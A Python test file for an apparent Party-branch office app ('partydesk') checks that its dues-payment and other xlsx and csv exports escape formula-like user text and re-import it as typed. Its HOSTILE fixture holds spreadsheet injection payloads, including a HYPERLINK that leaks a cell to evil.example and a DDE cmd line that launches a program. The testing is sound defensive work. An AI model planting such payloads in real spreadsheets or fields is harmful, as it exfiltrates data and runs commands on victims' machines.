"""党费 payments exported like the other tables; no export lets a cell run as a formula in Excel or WPS."""

from __future__ import annotations

import csv
import zipfile
from datetime import date

import openpyxl
import pytest

from partydesk.domain.actor import Actor
from partydesk.domain.enums import ActivityKind, Role, ServiceCategory, TalkKind
from partydesk.domain.errors import PermissionDenied
from partydesk.domain.vanguard import HonourLevel
from partydesk.services import calendar, dues, exporting, roster, service_log, talks, vanguard
from partydesk.services.importing import run_roster_import
from tests.services.helpers import TODAY, add_member, resident_id

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "=1+1")


@pytest.fixture
def hostile_office(db, branch_uuid):
    """Every exported table holds user text that starts like a formula."""
    wang = add_member(db, branch_uuid, "王伟", resident_id=resident_id(), phone="13812345678", notes=HOSTILE[0],
                      post=HOSTILE[1], address=HOSTILE[3])
    li = add_member(db, branch_uuid, "李娜")
    calendar.create_activity(db, calendar.ActivityInput(ActivityKind.PARTY_LECTURE, HOSTILE[0], "2026-03-05",
                                                        branch_uuid, place=HOSTILE[2]))
    service_log.create_entry(db, service_log.ServiceInput(ServiceCategory.VOLUNTEER, HOSTILE[1], "2026-04-01",
                                                          branch_uuid, description=HOSTILE[3],
                                                          participants=[service_log.Participant(li)]))
    talks.create_talk(db, talks.TalkInput(TalkKind.HEART_TO_HEART, "2026-05-06", li, talker_name="赵书记",
                                          summary=HOSTILE[0]))
    vanguard.add_honour(db, vanguard.HonourInput("优秀共产党员", HonourLevel.COUNTY, date(2026, 6, 28),
                                                 member_uuid=wang, citation=HOSTILE[5]))
    dues.set_base(db, wang, 2026, "in_service", "4000")
    dues.record_payment(db, dues.PaymentInput(wang, "2026-01", paid_on="2026-01-20", receipt_no=HOSTILE[1],
                                              proxy_name="-李", note=HOSTILE[0]), today=TODAY)
    dues.record_payment(db, dues.PaymentInput(wang, "2026-02", paid_on="2026-10-08", note=HOSTILE[4]), today=TODAY)
    return {"wang": wang, "li": li}


def every_export(db, folder, suffix: str) -> list:
    paths = [exporting.EXPORTS[kind](db, folder / f"{kind}{suffix}").path for kind in exporting.EXPORTS]
    paths += [exporting.export_vanguard(db, "honours", folder / f"honours{suffix}").path]
    return paths


def test_the_payments_of_a_year_are_exported_with_names_and_months_never_ids(db, hostile_office, tmp_path):
    result = exporting.export_dues(db, tmp_path / "党费.xlsx", year=2026, today=date(2026, 12, 6))
    assert result.rows == 2
    sheet = openpyxl.load_workbook(result.path).active
    assert sheet["A1"].value.endswith("2026年党费收缴记录  2026年12月6日")
    assert [c.value for c in sheet[2]] == [c.header for c in exporting.PAYMENT_COLUMNS]
    first, back = ([c.value for c in row] for row in sheet.iter_rows(min_row=3))
    assert first[:5] == ["王伟", "第一党支部", "2026-01", 40, first[4]] and first[4].date() == date(2026, 1, 20)
    assert first[6] == "-李" and first[7] in ("", None)
    assert back[2] == "2026-02" and back[7] == "是"  # paid 8 months late: a 补交
    everything = str([[c.value for c in row] for row in sheet.iter_rows()])
    assert "13812345678" not in everything and "王伟" in everything
    assert exporting.export_dues(db, tmp_path / "2025.xlsx", year=2025).rows == 0


def test_the_payments_export_needs_the_export_right(db, hostile_office, tmp_path):
    db.actor = Actor("guest", Role.VIEWER)
    with pytest.raises(PermissionDenied):
        exporting.export_dues(db, tmp_path / "党费.csv")


def test_no_xlsx_export_holds_a_formula_and_hostile_text_stays_text(db, hostile_office, tmp_path):
    for path in every_export(db, tmp_path, ".xlsx"):
        with zipfile.ZipFile(path) as book:
            sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
            assert not any(b"<f>" in book.read(name) for name in sheets), path.name
        values = {c.value for sheet in openpyxl.load_workbook(path).worksheets for row in sheet.iter_rows()
                  for c in row if c.value is not None}
        found = values & set(HOSTILE)
        assert found, path.name  # written, as the very text typed
        cells = [c for sheet in openpyxl.load_workbook(path).worksheets for row in sheet.iter_rows() for c in row
                 if c.value in HOSTILE]
        assert all(c.data_type == "s" and c.quotePrefix for c in cells), path.name


def test_no_csv_cell_starts_like_a_formula_except_our_own_id_text(db, hostile_office, tmp_path):
    for path in every_export(db, tmp_path, ".csv"):
        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
        cells = [cell for row in rows for cell in row]
        risky = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                 and not (cell.startswith('="') and cell.endswith('"') and '"' not in cell[2:-1])]
        assert not risky, (path.name, risky)
        assert any(cell.startswith("'") and cell[1:] in HOSTILE for cell in cells), path.name


def test_a_csv_roster_with_formula_like_text_imports_back_as_typed(db, hostile_office, tmp_path):
    path = exporting.export_roster(db, tmp_path / "花名册.csv", full_ids=True).path
    assert run_roster_import(db, path, today=TODAY).rejected == []
    wang = roster.get_member(db, hostile_office["wang"])
    assert (wang.notes, wang.post, wang.address) == (HOSTILE[0], HOSTILE[1], HOSTILE[3])
